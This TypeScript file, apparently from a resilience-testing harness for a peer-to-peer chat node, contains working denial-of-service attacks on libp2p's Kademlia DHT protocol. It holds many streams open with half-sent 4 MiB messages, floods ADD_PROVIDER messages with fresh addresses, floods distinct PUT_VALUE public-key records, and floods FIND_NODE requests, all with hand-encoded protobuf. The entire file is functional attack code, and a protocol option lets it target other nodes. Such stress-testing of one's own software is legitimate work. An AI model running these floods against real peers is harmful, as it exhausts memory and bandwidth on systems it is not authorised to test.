/**
 * Kademlia attacks on the node's DHT protocol (`/p2p-chat/kad/1.0.0`): half-sent 4 MiB messages on
 * many streams, ADD_PROVIDER with a new address each time, ADD_PROVIDER and PUT_VALUE `/pk/` with
 * distinct keys, and a FIND_NODE flood. Messages are kad-dht's protobuf (dht.proto), encoded by hand:
 * Message { type = 1 (enum), key = 2, record = 3, closerPeers = 8, providerPeers = 9 },
 * Peer { id = 1, addrs = 2 }, Record { key = 1, value = 2, timeReceived = 5 }.
 */
import { randomBytes } from 'node:crypto'
import { multiaddr } from '@multiformats/multiaddr'
import { generateKeyPair, publicKeyToProtobuf } from '@libp2p/crypto/keys'
import type { Connection, Libp2p, Stream } from '@libp2p/interface'
import type { Attack, AttackContext } from './common.ts'
import { attackerNode, concat, discardIncoming, holdUntil, lpFrame, pbField, sendWithBackpressure, sleep, varint, workers } from './common.ts'

const KAD = '/p2p-chat/kad/1.0.0'
const TYPE = { PUT_VALUE: 0, ADD_PROVIDER: 2, FIND_NODE: 4 } as const
const utf8 = new TextEncoder()

const protocolOf = (ctx: AttackContext): string => ctx.options.protocol ?? KAD

/** A sha2-256 multihash: kad-dht reads a provider key as a CID, and a bare one is a CIDv0. */
const randomCidKey = (): Uint8Array => concat(Uint8Array.from([0x12, 0x20]), randomBytes(32))

function addProvider (key: Uint8Array, providerId: Uint8Array, addrs: Uint8Array[]): Uint8Array {
  const peer = concat(pbField(1, providerId), ...addrs.map(a => pbField(2, a)))
  return concat(pbField(1, TYPE.ADD_PROVIDER), pbField(2, key), pbField(9, peer))
}

/** `count` connections to the target (new ones forced: libp2p would reuse the first). */
async function connections (ctx: AttackContext, node: Libp2p<any>, count: number): Promise<Connection[]> {
  const out: Connection[] = []
  for (let i = 0; i < count && !ctx.over; i++) {
    try {
      out.push(await node.dial(ctx.target, { force: i > 0, signal: AbortSignal.timeout(5_000) }))
      ctx.count('connections')
    } catch (err: any) {
      ctx.count('dialFailures')
      ctx.report('dial-failed', { message: err.message })
      await sleep(250) // libp2p refuses more than 5 connections a second from one host
      i--
    }
  }
  return out
}

async function openStream (ctx: AttackContext, conn: Connection): Promise<Stream | undefined> {
  try {
    const stream = await conn.newStream(protocolOf(ctx), { signal: AbortSignal.timeout(5_000) })
    ctx.count('streams')
    return stream
  } catch {
    ctx.count('streamFailures')
    return undefined
  }
}

/** Row 1: N connections x M kad streams, each announcing a 4 MiB message and sending all but its last byte. */
const kadHalfMessages: Attack = async (ctx) => {
  const size = ctx.num('size', 4 * 1024 * 1024)
  const node = await attackerNode(ctx.source(0))
  const conns = await connections(ctx, node, ctx.num('connections', 2))
  ctx.started()
  const chunk = randomBytes(64 * 1024)
  await workers(conns.length * ctx.num('streams', 32), async (i) => {
    const stream = await openStream(ctx, conns[i % conns.length])
    if (stream == null) return
    if (!await sendWithBackpressure(stream, varint(size), ctx.until)) return
    let left = size - 1
    while (left > 0 && !ctx.over) {
      const piece = chunk.subarray(0, Math.min(chunk.byteLength, left))
      if (!await sendWithBackpressure(stream, piece, ctx.until)) return
      left -= piece.byteLength
      ctx.count('bytesSent', piece.byteLength)
    }
    if (left === 0) ctx.count('messagesHeld')
  })
  await holdUntil(ctx)
  return undefined
}

/**
 * Sends messages from `next()` on `parallel` streams of one connection as fast as the streams
 * take them, reading (and discarding) whatever the target answers; a closed stream is replaced.
 */
async function flood (ctx: AttackContext, node: Libp2p<any>, next: () => Promise<Uint8Array> | Uint8Array): Promise<void> {
  const [conn] = await connections(ctx, node, 1)
  ctx.started()
  const perStream = ctx.num('per-stream', 1_000)
  await workers(ctx.num('parallel', 8), async () => {
    while (!ctx.over) {
      if (conn.status !== 'open') { await sleep(100); continue }
      const stream = await openStream(ctx, conn)
      if (stream == null) { await sleep(50); continue }
      // --read false: leave the answers unread (the target's writes then meet a full window)
      if (ctx.options.read !== 'false') discardIncoming(stream)
      for (let n = 0; n < perStream && !ctx.over; n++) {
        if (stream.status !== 'open' || !await sendWithBackpressure(stream, lpFrame(await next()), ctx.until)) break
        ctx.count('messages')
      }
      try { await stream.close({ signal: AbortSignal.timeout(1_000) }) } catch { stream.abort(new Error('done')) }
    }
  })
}

/** Row 4: ADD_PROVIDER on one connection, each message carrying a new address of the (attacker) provider. */
const kadProviderAddresses: Attack = async (ctx) => {
  const node = await attackerNode(ctx.source(0))
  const self = node.peerId.toMultihash().bytes
  const key = randomCidKey()
  let n = 0
  await flood(ctx, node, () => {
    n++
    const addr = multiaddr(`/ip4/10.${(n >> 16) & 255}.${(n >> 8) & 255}.${n & 255}/tcp/${1024 + (n % 60_000)}`).bytes
    return addProvider(ctx.options['same-key'] === 'false' ? randomCidKey() : key, self, [addr])
  })
  await node.stop()
  return { addresses: n }
}

/** Row 5: ADD_PROVIDER and PUT_VALUE `/pk/<multihash>` (valid: the key is the value's hash), distinct keys. */
const kadRecords: Attack = async (ctx) => {
  const node = await attackerNode(ctx.source(0))
  const self = node.peerId.toMultihash().bytes
  const addr = multiaddr(`/ip4/${ctx.source(0)}/tcp/4001`).bytes
  let n = 0
  await flood(ctx, node, async () => {
    n++
    if (n % 2 === 0) return addProvider(randomCidKey(), self, [addr])
    const key = await generateKeyPair('Ed25519')
    const recordKey = concat(utf8.encode('/pk/'), key.publicKey.toMultihash().bytes)
    const record = concat(pbField(1, recordKey), pbField(2, publicKeyToProtobuf(key.publicKey)), pbField(5, utf8.encode(new Date().toISOString())))
    return concat(pbField(1, TYPE.PUT_VALUE), pbField(2, recordKey), pbField(3, record))
  })
  await node.stop()
  return { records: n }
}

/** Row 6: FIND_NODE for random keys, as fast as the target takes them. */
const kadFindNode: Attack = async (ctx) => {
  const node = await attackerNode(ctx.source(0))
  await flood(ctx, node, () => concat(pbField(1, TYPE.FIND_NODE), pbField(2, concat(Uint8Array.from([0x00, 0x24, 0x08, 0x02, 0x12, 0x20]), randomBytes(32)))))
  await node.stop()
  return undefined
}

export const kadAttacks: Record<string, Attack> = {
  'kad-half-messages': kadHalfMessages,
  'kad-provider-addresses': kadProviderAddresses,
  'kad-records': kadRecords,
  'kad-find-node': kadFindNode
}
